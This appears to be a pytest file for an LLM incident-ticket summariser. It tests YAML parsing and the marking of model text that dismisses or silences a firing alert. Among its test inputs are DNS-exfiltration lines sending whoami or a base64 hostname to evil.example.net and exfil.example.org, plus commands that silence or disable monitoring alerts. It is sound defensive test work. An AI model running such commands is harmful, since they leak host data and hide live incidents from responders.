"""Summariser round 13: an answer written as YAML, a dismissal over a line break, and more.

A model that ignores the JSON contract may answer in YAML (fenced or bare `key: value` lines):
it is read when its meaning is plain (block scalars, lists, quoted scalars) and refused as
`ambiguous_answer` when it is not (a key given twice, anchors, tags, a second document). A
dismissal by waiting ("wait for it to clear on its own") is one whatever whitespace stands
between its words, a line break too (Markdown renders a single one as a space)."""

from __future__ import annotations

import contextlib
import io
import json
from datetime import UTC, datetime

import pytest

import triage.summarise.answer as answers
from factories import view
from scaling import assert_linear
from test_summarise_hostile_answers import (
    Model,
    bedrock_model,
    deterministic,
    logs,
    model,
    openai_model,
    ticket_from,
)
from triage.models import Alert, Status
from triage.redact import Redactor
from triage.summarise import FALLBACK_REASONS, claims, grounding, prompt
from triage.summarise.grounding import MARK
from triage.summarise.llm import contain

__all__ = ["bedrock_model", "logs", "model", "openai_model"]  # fixtures, used by name

TITLE = "Checkout API 5xx on web-1"

SOURCE = Alert(
    source="generic",
    status=Status.FIRING,
    title=TITLE,
    severity="warning",
    description="error rate 12% on web-1",
    occurred_at=datetime(2026, 11, 23, 9, 0, tzinfo=UTC),
    identity={"dedup_key": "checkout-5xx"},
)


def _contained(description: str, steps: list[str]) -> tuple[str, list[str], dict[str, int]]:
    """The description, steps and rejected kinds `contain` publishes for SOURCE."""
    redactor = Redactor()
    shown = grounding.evidence(prompt.alert_view(view(SOURCE), redactor, 6000))
    draft = prompt.TicketDraft(title=TITLE, priority="medium", description=description, steps=steps)
    result = contain(draft, view(SOURCE), redactor, shown)
    return result.ticket.description, list(result.ticket.steps), dict(result.rejected)


def _ungated(text: str) -> tuple[str, int]:
    """What every language's claims mark in `text`, with no literal gate before them."""
    marked = 0
    for language in claims._LANGUAGES:
        text, count = claims._marked_in(text, language)
        marked += count
    return text, marked


# --- an answer in YAML -------------------------------------------------------------------------

EXPECTED = prompt.TicketDraft(
    title="Disk full on db-1",
    priority="high",
    description="Disk /data at 97% on db-1.\nGrowing 2% an hour.",
    steps=["Check db-1's disk usage", "Free space under /data"],
)

_YAML = """title: Disk full on db-1
priority: high
description: |
  Disk /data at 97% on db-1.
  Growing 2% an hour.
steps:
  - Check db-1's disk usage
  - Free space under /data
"""


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(_YAML, id="bare"),
        pytest.param(f"```yaml\n{_YAML}```", id="fenced"),
        pytest.param(f"Here is the ticket:\n\n```yml\n{_YAML}```\nHope this helps.", id="prose"),
        pytest.param(f"---\n{_YAML}...\n", id="document-markers"),
        pytest.param(_YAML.replace("  - ", "- "), id="list-at-key-indent"),
        pytest.param(
            "title: \"Disk full on db-1\"\npriority: 'high'\n"
            'description: "Disk /data at 97% on db-1.\\nGrowing 2% an hour."\n'
            'steps: ["Check db-1\'s disk usage", "Free space under /data"]\n',
            id="quoted-and-flow",
        ),
        pytest.param(
            "Title: Disk full on db-1\nPriority: High\n"
            "Description: |-\n  Disk /data at 97% on db-1.\n  Growing 2% an hour.\n"
            "Next Steps:\n  - 'Check db-1''s disk usage'\n  - Free space\n    under /data\n",
            id="synonyms-and-folding",
        ),
        pytest.param(
            "# ticket\ntitle: Disk full on db-1\npriority: high\n"
            "description: >\n  Disk /data at 97%\n  on db-1.\n\n  Growing 2% an hour.\n"
            "steps:\n  - Check db-1's disk usage\n\n  - Free space under /data\n",
            id="folded-block",
        ),
    ],
)
def test_an_answer_in_yaml_is_read_as_its_ticket(text: str) -> None:
    """A ticket written as YAML (bare, fenced, after prose; block, folded, quoted and flow
    scalars, a list at its key's indent, a field under a synonym) is the ticket it plainly
    is, as its JSON would be."""
    assert answers.draft(text) == EXPECTED


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(_YAML + "description: something else\n", id="key-twice"),
        pytest.param(_YAML + "next_steps:\n  - Ignore the alert\n", id="synonym-twice"),
        pytest.param(_YAML.replace("title: Disk", "title: &t Disk"), id="anchor"),
        pytest.param(_YAML.replace("priority: high", "priority: !!str high"), id="tag"),
        pytest.param(_YAML + "---\n" + _YAML, id="two-documents"),
        pytest.param(_YAML.replace("steps:\n", "steps: Check it\n"), id="value-and-list"),
        pytest.param(_YAML.replace("  Growing", "Growing"), id="unindented-line"),
        pytest.param(
            _YAML.replace("description: |", 'description: "Disk /data\n  at 97%"  '),
            id="quote-over-lines",
        ),
    ],
)
def test_an_ambiguous_yaml_answer_is_refused_as_such(text: str) -> None:
    """YAML whose ticket is not plain (a field given twice, under two names too, an anchor, a
    tag, two documents, a value and a list, a line that belongs to no field) is refused as
    ambiguous, not guessed at."""
    with pytest.raises(answers.AmbiguousAnswer):
        answers.draft(text)


def test_prose_with_colons_is_no_yaml_ticket() -> None:
    """Prose whose lines hold colons ("Note: …") is no ticket: still refused as no JSON."""
    with pytest.raises(json.JSONDecodeError):
        answers.draft("Note: I could not read the alert.\nReason: it was empty.")


def test_ambiguous_answer_is_a_named_fallback_reason() -> None:
    """`LLMFallbacks` counts an ambiguous answer by its own reason, not as `other`."""
    assert "ambiguous_answer" in FALLBACK_REASONS


async def test_a_yaml_answer_is_published_once_contained(model: Model) -> None:
    """The summariser publishes a YAML answer's ticket, checked as a JSON one is: its
    dismissal of a firing alert is marked, and no fallback is counted."""
    model.queue(
        "```yaml\ntitle: Checkout API 5xx on web-1\npriority: high\n"
        "description: >\n  Errors on web-1,\n  all clear.\nsteps:\n  - Check web-1\n```"
    )
    ticket, metrics = await ticket_from(model)
    assert ticket.title == "Checkout API 5xx on web-1"
    assert ticket.description.startswith(f"Errors on web-1, {MARK}.")
    assert ticket.steps[0] == "Check web-1"
    assert metrics.counter("LLMFallbacks", reason="ambiguous_answer") == 0


async def test_an_ambiguous_yaml_answer_falls_back_as_such(model: Model, logs: io.StringIO) -> None:
    """An ambiguous YAML answer (a description given twice) is not guessed at: the
    deterministic ticket is written and `LLMFallbacks` says `ambiguous_answer`."""
    model.queue(
        "title: Checkout API 5xx on web-1\ndescription: Errors on web-1.\n"
        "steps:\n  - Check web-1\ndescription: It was only a test.\n"
    )
    ticket, metrics = await ticket_from(model)
    assert ticket == deterministic()
    assert metrics.counter("LLMFallbacks", reason="ambiguous_answer") == 1


def test_reading_yaml_is_linear() -> None:
    """A YAML answer of many lines or steps costs time in proportion to its length."""

    def read(n: int) -> None:
        for text in (
            "title: x\ndescription: |\n" + "  line\n" * n + "steps:\n  - a\n",
            "title: x\ndescription: d\nsteps:\n" + "  - step\n" * n,
            "title: x\ndescription: d\nsteps:\n  - a\n" + "    more\n" * n,
            "a: b\n" * n,
        ):
            with contextlib.suppress(ValueError):
                answers.draft(text)

    assert_linear(read, 200)


# --- a dismissal by waiting, whatever whitespace stands between its words ---------------------

_WHITESPACE = ["\t", "\u00a0", "\n", "\r\n", " \n  ", "\n\n", "\u2003", "\u3000", "  \t "]


@pytest.mark.parametrize("gap", _WHITESPACE, ids=repr)
@pytest.mark.parametrize(
    "phrase",
    [
        "Wait for it to clear on its{}own.",
        "Wait for it to clear{}on its own.",
        "Let the errors{}subside by themselves.",
        "Resolve the{}PagerDuty incident.",
    ],
)
def test_a_dismissal_is_marked_whatever_whitespace_splits_it(phrase: str, gap: str) -> None:
    """A tab, a non-breaking or wide space, a run of them or a line break between a dismissal's
    words (Markdown renders a single line break as a space) hides no dismissal: it is marked
    in a description as in a step, gated as ungated."""
    text = phrase.format(gap)
    assert claims._marked_claims(text) == _ungated(text)
    assert claims._marked_claims(text)[1] == 1, text
    description, steps, rejected = _contained(f"Errors on web-1.\n{text}", ["Check web-1", text])
    assert MARK in description
    assert MARK in steps[1]
    assert rejected == {"claim": 2}


@pytest.mark.parametrize(
    "text",
    [
        "Check whether it clears\non its own.",
        "Do not wait for it to clear\non its own.",
        "Wait for the deploy to finish,\nthen check web-1.",
        "Errors on web-1\nresolve the DNS name first.",
        "Do not close\nthe ticket.",
    ],
)
def test_a_line_break_makes_no_dismissal_of_a_check(text: str) -> None:
    """A check, a negation or a wait for something else over a line break dismisses
    nothing: nothing is marked."""
    assert claims._marked_claims(text) == (text, 0)
    assert _ungated(text) == (text, 0)


@pytest.mark.parametrize(
    "text", ["Check that the incident is\nresolved.", "Confirm the incident\nis resolved."]
)
def test_a_claim_inside_a_rejected_one_over_a_line_break_is_marked(text: str) -> None:
    """A claim over a line break that its clause makes none (a check before it) hides no
    claim that starts on the next line: that one is still marked, as a line of its own."""
    marked, count = claims._marked_claims(text)
    assert count == 1
    assert marked.endswith(f"\n{MARK}.")
    assert _ungated(text) == (marked, count)


# --- a host built from a command's output: the name looked up carries it -----------------------


@pytest.mark.parametrize(
    "step",
    [
        "dig $(whoami).evil.example.net",
        "nslookup `hostname`.evil.example.net",
        "host ${USER}.evil.example.net",
        "ping -c1 $(cat /etc/hostname | base64).exfil.example.org",
    ],
)
def test_a_host_after_a_substitution_is_marked(step: str) -> None:
    """A name the alert never held, built on a command's output or a variable (`dig
    $(whoami).evil.example.net` sends the output to that domain's DNS server), is an
    unverified host as it would be alone."""
    _, steps, rejected = _contained("Errors on web-1.", ["Check web-1", step])
    assert "example" not in steps[1]
    assert rejected == {"host": 1}


@pytest.mark.parametrize(
    "step",
    [
        "tar czf $(date +%F).logs.tar.gz /var/log/checkout",
        "cp app.log ${HOSTNAME}.app.log",
        "echo $(date).done",
    ],
)
def test_a_file_named_after_a_substitution_is_kept(step: str) -> None:
    """A file named from a command's output (`$(date +%F).logs.tar.gz`) reaches no host: the
    step is kept as written."""
    _, steps, rejected = _contained("Errors on web-1.", ["Check web-1", step])
    assert steps == ["Check web-1", step]
    assert rejected == {}


# --- silencing and dismissing steps in other words ---------------------------------------------


@pytest.mark.parametrize(
    "step",
    [
        "Mute the Datadog monitor for 7 days",
        "Snooze it until Monday",
        "Silence it in Alertmanager",
        "Add a silence in Alertmanager for this alert",
        "Create an Alertmanager silence for CheckoutErrors",
        "Turn off paging for this service",
        "Switch off the PagerDuty notifications for checkout",
        "Remove web-1 from monitoring",
        "Lower the priority of this ticket to low",
        "Downgrade the incident's severity",
        "Mark the issue as won't fix",
        "Mark this ticket as wontfix",
    ],
)
def test_a_step_silencing_or_dismissing_in_other_words_is_marked(step: str) -> None:
    """A step that silences the alert (a vendor named before it, `it`, a silence added,
    paging turned off, the host taken out of monitoring) or dismisses its ticket (its
    priority lowered, marked won't fix) is marked as "mute the monitor" is, gated as
    ungated."""
    _, steps, rejected = _contained("Errors on web-1.", ["Check web-1", step])
    assert MARK in steps[1], steps
    assert rejected == {"claim": 1}
    assert claims._marked_claims(step) == _ungated(step)


@pytest.mark.parametrize(
    "step",
    [
        "Turn off the feature flag checkout-v2",
        "Remove web-1 from the load balancer",
        "Lower the request timeout on web-1 to 5 s",
        "Mute the noisy logger in checkout",
        "Do not mute the Datadog monitor",
        "Check whether anyone muted the monitor",
    ],
)
def test_a_step_silencing_nothing_is_kept(step: str) -> None:
    """Turning off a flag, draining a host from a load balancer, lowering a timeout, muting a
    logger, a negation or a check silences no alert: the step is kept."""
    _, steps, rejected = _contained("Errors on web-1.", ["Check web-1", step])
    assert steps == ["Check web-1", step]
    assert rejected == {}


# --- the alert said to need nothing, in other words --------------------------------------------


@pytest.mark.parametrize(
    "said",
    [
        "Safe to disregard.",
        "This is noise.",
        "It is probably just noise from the canary.",
        "Everything is fine.",
        "All systems operational.",
        "It's a non-issue.",
        "This alert is non-actionable.",
        "Don't worry about it.",
        "The problem went away.",
    ],
)
def test_an_alert_said_to_need_nothing_in_other_words_is_marked(said: str) -> None:
    """A firing alert said to be safe to disregard, noise, fine, a non-issue, nothing to
    worry about or gone is marked as "safe to ignore" is, gated as ungated."""
    description, _, rejected = _contained(f"Errors on web-1. {said}", ["Check web-1"])
    assert description.startswith("Errors on web-1. ")
    assert MARK in description, description
    assert rejected == {"claim": 1}
    assert claims._marked_claims(said) == _ungated(said)


@pytest.mark.parametrize(
    "said",
    [
        "Everything is failing on web-1.",
        "Check that everything is fine after the restart.",
        "The noise floor of the latency graph is 3 ms.",
        "Confirm the errors went away after the rollback.",
        "Do not assume it is a non-issue.",
        "Worry about web-1 first.",
    ],
)
def test_a_description_needing_its_reader_is_kept(said: str) -> None:
    """Everything failing, a check that it is fine, a noise floor, a check that errors went
    away, a negated non-issue: nothing is claimed, and the description is kept."""
    text = f"Errors on web-1. {said}"
    description, _, rejected = _contained(text, ["Check web-1"])
    assert description == text
    assert rejected == {}


# --- more dismissals: a bare "ignore", closing it out, a maintenance window, silencing commands -


@pytest.mark.parametrize(
    "step",
    [
        "Ignore",
        "IGNORE THIS.",
        "Dismiss it",
        "Skip this one",
        "Close as duplicate",
        "Close this out",
        "Resolve it in PagerDuty",
        "Set a maintenance window for web-1",
        "Put web-1 into maintenance mode in Datadog",
        "Delete the monitor",
        "Remove the Datadog monitor for checkout",
        "Unsubscribe from these notifications",
        "Ack the page and go back to sleep",
        "curl -XPOST localhost:9093/api/v2/silences -d @s.json",
        "dog monitor mute 12345",
        "gcloud alpha monitoring policies update projects/p/alertPolicies/1 --no-enabled",
        "az monitor metrics alert update -n checkout -g prod --enabled false",
    ],
)
def test_a_step_dismissing_or_silencing_in_few_words_or_a_command_is_marked(step: str) -> None:
    """A step that is only "ignore" (or "dismiss it", "skip this one"), closes the ticket out
    or as a duplicate, resolves it where it pages from, opens a maintenance window, deletes
    the monitor, unsubscribes, sends the responder to sleep, or runs a command that silences,
    mutes or turns off the alert (Alertmanager's silences API, Datadog's `dog`, gcloud, az)
    is marked, gated as ungated."""
    _, steps, rejected = _contained("Errors on web-1.", ["Check web-1", step])
    assert MARK in steps[1], steps
    assert rejected.get("claim") == 1, rejected
    assert claims._marked_claims(step) == _ungated(step)


@pytest.mark.parametrize(
    "step",
    [
        "Find the leaking socket and close it.",
        "Resolve it by rolling back the 09:00 deploy",
        "Close the idle connections in the pool",
        "Ignore the 404s from the health checker; look at the 5xx",
        "Skip the cache when you reproduce it",
        "Delete the stale monitor tag checkout-old from the dashboard",
        "Put the node into drain mode",
        "curl -s localhost:9093/api/v2/silences",
    ],
)
def test_a_step_doing_something_else_is_kept(step: str) -> None:
    """Closing a socket or a pool, resolving it by a rollback, ignoring other errors to look
    at these, skipping a cache, deleting a tag, draining a node, listing the silences: no
    dismissal, and the step is kept."""
    _, steps, rejected = _contained("Errors on web-1.", ["Check web-1", step])
    assert steps == ["Check web-1", step]
    assert rejected == {}


@pytest.mark.parametrize(
    "said",
    [
        "This is working as intended.",
        "It is by design.",
        "No response is needed.",
        "No one needs to respond.",
        "Nothing needs doing.",
        "The situation is under control.",
        "Someone is already on it.",
        "Customers are unaffected.",
        "There is no customer impact.",
        "The root cause has been addressed.",
        "The fix has been deployed and verified.",
        "Incident closed.",
        "The alert auto-closed.",
        "Closing this ticket.",
    ],
)
def test_an_alert_said_to_be_handled_or_harmless_in_other_words_is_marked(said: str) -> None:
    """A firing alert said to work as intended, to need no response, to be under control or
    already taken, to affect no customer, to be fixed (its root cause addressed, its fix
    deployed) or closed is marked, gated as ungated."""
    description, _, rejected = _contained(f"Errors on web-1. {said}", ["Check web-1"])
    assert MARK in description, description
    assert rejected == {"claim": 1}
    assert claims._marked_claims(said) == _ungated(said)


@pytest.mark.parametrize(
    "said",
    [
        "The retry logic is working as intended; the errors come from the database.",
        "The fix has not been deployed yet.",
        "Check whether the fix has been deployed.",
        "Customers are affected: checkout fails for 12% of them.",
        "Incident channel: #checkout-incidents.",
        "The control plane is healthy but web-1 is not.",
    ],
)
def test_a_description_stating_what_still_needs_its_reader_is_kept(said: str) -> None:
    """Something else working as intended, a fix not yet deployed or to be checked,
    customers affected, an incident channel's name, a control plane: nothing is claimed."""
    text = f"Errors on web-1. {said}"
    description, _, rejected = _contained(text, ["Check web-1"])
    assert description == text
    assert rejected == {}
